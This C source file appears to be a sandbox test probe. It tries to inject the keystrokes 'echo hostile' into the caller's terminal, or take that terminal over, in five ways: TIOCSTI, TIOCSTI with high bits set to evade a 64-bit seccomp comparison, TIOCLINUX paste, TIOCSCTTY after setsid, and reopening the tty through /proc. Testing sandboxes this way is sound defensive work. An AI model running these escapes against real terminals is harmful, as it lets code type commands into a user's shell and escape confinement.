/* hostile-terminal - puts characters into the caller's terminal, or takes it over (T18).
 *
 * Run with descriptor 0, 1 or 2 on a terminal. The caller looks afterwards whether anything arrived.
 */
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <linux/tiocl.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <termios.h>
#include <unistd.h>

static bool each_descriptor(unsigned long request)
{
    static const char text[] = "echo hostile\n";
    for (int fd = 0; fd < 3; fd++)
        for (const char *at = text; *at; at++)
            if (raw_call(SYS_ioctl, (unsigned long)fd, request, (unsigned long)at, 0, 0, 0) == 0) {
                attack_note("descriptor %d", fd);
                return true;
            }
    return false;
}

static bool by_typing(void)
{
    return each_descriptor(TIOCSTI);
}

/* The kernel takes the request as 32 bits; a filter that compares 64 lets this one through. */
static bool by_typing_with_high_bits(void)
{
    return each_descriptor(TIOCSTI | 0x100000000ul) ||
           each_descriptor(TIOCSTI | 0x8000000000000000ul);
}

static bool by_console_paste(void)
{
    char request[8] = { TIOCL_PASTESEL };
    for (int fd = 0; fd < 3; fd++)
        if (ioctl(fd, TIOCLINUX, request) == 0 ||
            raw_call(SYS_ioctl, (unsigned long)fd, TIOCLINUX | 0x100000000ul,
                     (unsigned long)request, 0, 0, 0) == 0)
            return true;
    return false;
}

static bool by_taking_the_terminal(void)
{
    setsid();
    for (int fd = 0; fd < 3; fd++)
        if (ioctl(fd, TIOCSCTTY, 1) == 0 && each_descriptor(TIOCSTI))
            return true;
    errno = EPERM;
    return false;
}

static bool by_opening_it_again(void)
{
    char path[64], name[64] = "";
    for (int fd = 0; fd < 3; fd++) {
        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        ssize_t n = readlink(path, name, sizeof name - 1);
        if (n <= 0)
            continue;
        name[n] = 0;
        setsid();
        int again = open(name, O_RDWR);
        if (again >= 0 && ioctl(again, TIOCSCTTY, 1) == 0 && ioctl(again, TIOCSTI, "h") == 0)
            return true;
    }
    return false;
}

int main(int argc, char **argv)
{
    static const struct way ways[] = {
        { "TIOCSTI", by_typing },
        { "TIOCSTI with high bits", by_typing_with_high_bits },
        { "TIOCLINUX", by_console_paste },
        { "TIOCSCTTY", by_taking_the_terminal },
        { "open again", by_opening_it_again },
    };
    attack_begin(argc, argv);
    return attack_run(ways, sizeof ways / sizeof *ways);
}
